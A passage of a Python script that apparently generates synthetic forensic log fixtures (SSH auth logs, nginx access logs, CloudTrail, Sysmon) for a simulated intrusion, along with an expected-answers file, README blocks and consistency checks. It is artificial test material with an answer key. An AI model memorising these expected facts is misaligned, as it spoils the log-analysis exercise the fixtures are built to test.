        fb = ", ".join(f"{k}: {v}" for k, v in i["failed_password_by_ip"].items())
        o.append(f"- lines containing `Failed password`: "
                 f"**{i['failed_password_lines']}**" + (f" ({fb})" if fb else ""))
        o.append(f"- lines containing `Invalid user `: {i['invalid_user_lines']}")
        ab = ", ".join(f"{k}: {v}" for k, v in i["accepted_by_user"].items())
        o.append(f"- `Accepted` lines: **{i['accepted_lines']}**"
                 + (f" ({ab})" if ab else ""))
        pw = [a for a in i["accepted"] if a["method"] == "password"]
        if pw:
            o.append("- `Accepted password` lines: " + "; ".join(
                f"line {a['line']} {a['user']} from {a['ip']} port {a['port']}"
                for a in pw))
        o.append(f"- lines with hostile text: {i['hostile_lines'] or 'none'}")
        o.append("- lines mentioning the attacker IPs: " + ", ".join(
            f"{k}: {v}" for k, v in i["lines_mentioning_attacker_ips"].items()))
        if "import_year" in i:
            o.append(f"- imported with year 2025: {i['lines_in_2025']} lines in "
                     f"2025, {i['lines_in_2026']} lines in 2026")
        if "lines_with_structured_data" in i:
            o.append(f"- lines with STRUCTURED-DATA: "
                     f"{i['lines_with_structured_data']}, with NILVALUE `-`: "
                     f"{i['lines_with_nil_structured_data']}; SD-PARAMs with "
                     f"escaped characters on line(s) "
                     f"{i['lines_with_escaped_sd_params']}")
        o.append("")
    o += ["## Per file: the other evidence formats", "",
          "All times below are UTC. The access logs and the Windows events are "
          "one record per line; `aws/cloudtrail.json` is one JSON document "
          "whose `Records` array holds the events.", ""]
    for rel, i in fx["files"].items():
        if rel not in syslog:
            o += extra_md(rel, i)
    tot = sum(i["lines"] for i in fx["files"].values())
    stot = sum(i["lines"] for i in syslog.values())
    fp = sum(i["failed_password_lines"] for i in syslog.values())
    acc = sum(i["accepted_lines"] for i in syslog.values())
    o += ["## Totals", "",
          f"- lines in the six syslog files: **{stot}**",
          f"- lines in all files: **{tot}**",
          f"- `Failed password` lines in all files: **{fp}**",
          f"- `Accepted` lines in all files: **{acc}**", "",
          "## Accepted lines (all)", "",
          "| file | line | method | user | from | port |",
          "|---|---:|---|---|---|---:|"]
    for rel, i in syslog.items():
        for a in i["accepted"]:
            o.append(f"| `{short(rel)}` | {a['line']} | {a['method']} | "
                     f"{a['user']} | {a['ip']} | {a['port']} |")
    o.append("")
    return "\n".join(o)


def new_files_block(fx) -> str:
    """A few headline numbers for the new files (all of them are in
    EXPECTED.md)."""
    a = fx["files"][F_ACCESS]
    c = fx["files"][F_ACCESS_CET]
    t = fx["files"][F_TRAIL]
    s = fx["files"][F_SYSMON]
    return "\n".join([
        f"- `web-01/access.log`: {a['lines']} lines, {a['first_timestamp']['utc']}"
        f" – {a['last_timestamp']['utc']}; {a['attacker']['lines']} lines from "
        f"{ATTACKER_IP} (lines {a['attacker']['first']['line']}–"
        f"{a['attacker']['last']['line']}), **{a['attacker']['404_lines']} of "
        "them 404s**; hostile lines "
        f"{a['hostile_lines']}.",
        f"- `web-01/access-cet.log`: {c['lines']} lines, all `+0100`, "
        f"{c['first_timestamp']['utc']} – {c['last_timestamp']['utc']}; "
        f"{c['attacker']['lines']} lines from {ATTACKER_IP} (lines "
        f"{c['attacker']['first']['line']}–{c['attacker']['last']['line']}, "
        f"from {c['attacker']['first']['utc']}).",
        f"- `aws/cloudtrail.json`: {t['records']} records, "
        f"{t['first_timestamp']['utc']} – {t['last_timestamp']['utc']}; "
        f"{len(t['attacker_records'])} from {ATTACKER_IP} (records "
        f"{t['attacker_records'][0]['record']}–"
        f"{t['attacker_records'][-1]['record']}); "
        f"**{t['getobject_by_backup_bot_from_attacker']} `GetObject` by "
        f"backup-bot from {ATTACKER_IP}** ({t['bytes_out_to_attacker']} bytes); "
        "errors: " + ", ".join(f"record {e['record']} `{e['errorCode']}`"
                               for e in t["errors"]) + ".",
        f"- `ws-alice/sysmon.jsonl`: {s['lines']} events, "
        f"{s['first_timestamp']['utc']} – {s['last_timestamp']['utc']} (event "
        f"time); per EventID: {kv(s['events_by_event_id'])}.",
    ]) + "\n"


def readme_blocks(readme: str, blocks: dict[str, str]) -> str:
    for name, body in blocks.items():
        pat = re.compile(rf"(<!-- BEGIN GENERATED: {name} -->\n).*?"
                         rf"(<!-- END GENERATED: {name} -->)", re.S)
        if not pat.search(readme):
            raise SystemExit(f"README.md lacks the '{name}' markers")
        readme = pat.sub(lambda m: m.group(1) + body + m.group(2), readme)
    return readme


def quirks_block(out, fx, extra) -> str:
    """The deliberate oddities, with exact line numbers."""
    o = []
    mal = f"{INC}/bastion-01/malformed.log"
    mlines = out[mal].split("\n")
    for n in fx["files"][mal]["unparseable_lines"]:
        o.append(f"- `bastion-01/malformed.log` line {n}: `{mlines[n - 1]}` "
                 "(no usable timestamp)")
    web = f"{INC}/web-01/syslog"
    wlines = out[web].split("\n")
    for n in fx["files"][web]["out_of_order_lines"]:
        o.append(f"- `web-01/syslog` line {n} is stamped `{wlines[n - 1][:15]}`, "
                 f"earlier than line {n - 1} (`{wlines[n - 2][:15]}`): a kernel "
                 "line delivered late")
    bl = out[f"{INC}/bastion-01/auth.log"].split("\n")
    for n in fx["files"][f"{INC}/bastion-01/auth.log"]["hostile_lines"]:
        o.append(f"- `bastion-01/auth.log` line {n}: hostile text: "
                 f"`` {bl[n - 1][16:]} ``")
    r5 = f"{INC}/bastion-01/messages-rfc5424.log"
    for n in fx["files"][r5]["lines_with_escaped_sd_params"]:
        o.append(f"- `bastion-01/messages-rfc5424.log` line {n}: an SD-PARAM "
                 'value with escaped quotes (`\\"`)')
    a = fx["files"][F_ACCESS]
    al = extra[F_ACCESS].split("\n")
    for n in a["hostile_lines"]:
        o.append(f"- `web-01/access.log` line {n}: hostile text: "
                 f"`` {al[n - 1]} ``")
    for n in a["lines_with_escaped_bytes"]:
        o.append(f"- `web-01/access.log` line {n}: a TLS handshake sent to "
                 "port 80; nginx logs the bytes as `\\xHH` escapes, status 400")
    ru = [x for x in a["lines_with_remote_user"] if x["status"] == 401]
    if ru:
        o.append("- `web-01/access.log` lines " + ", ".join(
            str(x["line"]) for x in ru) + ": a remote user (`" + "`, `".join(
            x["user"] for x in ru) + "`) on requests that failed with 401 "
            "(nginx logs the name it was sent, right or wrong)")
    c = fx["files"][F_ACCESS_CET]
    o.append(f"- `web-01/access-cet.log`: every line is `+0100`; lines "
             f"{c['lines_whose_local_date_differs_from_utc_date']} fall on the "
             "next local day (their UTC date is a day earlier); the attacker's "
             f"lines {c['attacker']['first']['line']}–"
             f"{c['attacker']['last']['line']} read `02:49`–`02:50` local but "
             f"happened at {c['attacker']['first']['utc']}, before everything "
             "else the attacker did")
    t = fx["files"][F_TRAIL]
    o.append("- `aws/cloudtrail.json`: two failed calls, only one of them "
             "hostile: " + "; ".join(
                 f"record {e['record']} (line {e['line']}) `{e['eventName']}` "
                 f"by {e['userName']}: `{e['errorCode']}`" for e in t["errors"])
             + ". Several records share a second (the parallel `GetObject`s); "
             "S3 user agents are wrapped in `[…]`; `requestParameters` is "
             "`null` on some records")
    s = fx["files"][F_SYSMON]
    o.append(f"- `ws-alice/sysmon.jsonl`: {len(s['non_ascii_lines'])} lines are "
             "not ASCII (`Microsoft® Windows® Operating System` in `Product`), "
             f"first line {s['non_ascii_lines'][0]}")
    o.append("- `ws-alice/sysmon.jsonl`: lines are in the order the collector "
             "received them (`@timestamp`, 1–3 s after the event), so "
             f"{len(s['event_time_out_of_order_lines'])} lines have an event "
             "time earlier than the line before (first: line "
             f"{s['event_time_out_of_order_lines'][0]}); `EventTime` and "
             "`EventReceivedTime` are the workstation's local time (CET) with "
             "no zone; Security events have no `UtcTime` at all")
    return "\n".join(o) + "\n"


def sanity(out, fx):
    """Invariants the README promises; fail loudly if an edit breaks one."""
    F = fx["files"]
    problems = []
    for rel, text in out.items():
        if "\r" in text or not text.endswith("\n") or "\n\n" in text:
            problems.append(f"{rel}: bad line endings")
        if not text.isascii():
            problems.append(f"{rel}: not ASCII")
    if F[f"{INC}/bastion-01/malformed.log"]["unparseable_lines"] != [4, 7]:
        problems.append("malformed.log: broken lines must be 4 and 7")
    if F[f"{INC}/bastion-01/malformed.log"]["lines"] != 10:
        problems.append("malformed.log must have 10 lines")
    if len(F[f"{INC}/web-01/syslog"]["out_of_order_lines"]) != 2:
        problems.append("web-01/syslog must have exactly 2 out-of-order lines")
    for rel, i in F.items():
        if "web-01" not in rel and i["out_of_order_lines"]:
            problems.append(f"{rel}: out of order at {i['out_of_order_lines']}")
        if "malformed" not in rel and i["unparseable_lines"]:
            problems.append(f"{rel}: unparseable {i['unparseable_lines']}")
    if len(F[f"{INC}/bastion-01/auth.log"]["hostile_lines"]) != 6:
        problems.append("expected 6 hostile lines in bastion-01/auth.log")
    roll = F["rollover/syslog-newyear.log"]
    if roll["lines"] != 20 or roll["first_timestamp"]["raw"] != "Dec 31 23:59:50" \
            or roll["last_timestamp"]["raw"] != "Jan  1 00:00:10":
        problems.append("rollover file shape changed")
    if problems:
        raise SystemExit("sanity check failed:\n  " + "\n  ".join(problems))


def all_outputs() -> dict[str, str]:
    out, tagged = build()
    ctx = world_context()
    extra = {}
    for rel, make in ((F_ACCESS, lambda: web_access_log(ctx)),
                      (F_ACCESS_CET, legacy_access_log),
                      (F_TRAIL, lambda: cloudtrail(ctx)),
                      (F_SYSMON, lambda: workstation(ctx))):
        extra[rel], tg = make()
        for k, refs in tg.items():
            if k in tagged:
                raise SystemExit(f"tag {k} used twice")
            tagged[k] = refs
    fx = facts(out, tagged)
    sanity(out, fx)
    line_ts = extra_facts(fx, extra)
    sanity_extra(out, extra, fx)
    res = dict(out)
    res.update(extra)
    res[f"{INC}/EXPECTED.md"] = expected_md(fx)
    res[f"{INC}/expected.json"] = json.dumps(fx, indent=2, ensure_ascii=True) + "\n"
    readme_path = ROOT / "README.md"
    if readme_path.exists():
        res["README.md"] = readme_blocks(
            readme_path.read_text(encoding="utf-8"),
            {"steps": steps_table(out, fx, line_ts), "files": files_table(fx),
             "quirks": quirks_block(out, fx, extra),
             "new-files": new_files_block(fx)})
    return res


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--check", action="store_true",
                    help="compare with the files on disk, write nothing")
    a = ap.parse_args()
    res = all_outputs()
    # determinism self-test: a second build must be byte-identical
    if all_outputs() != res:
        print("generator is not deterministic", file=sys.stderr)
        return 2
    bad = 0
    for rel, text in res.items():
        p = ROOT / rel
        if a.check:
            cur = p.read_bytes() if p.exists() else None
            if cur != text.encode("utf-8"):
                print(f"DIFFERS: {rel}", file=sys.stderr)
                bad += 1
        else:
            p.parent.mkdir(parents=True, exist_ok=True)
            with open(p, "w", encoding="utf-8", newline="\n") as fh:
                fh.write(text)
    if a.check:
        print("ok" if not bad else f"{bad} file(s) differ")
        return 1 if bad else 0
    for rel, text in res.items():
        print(f"{text.count(chr(10)):6d}  {rel}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
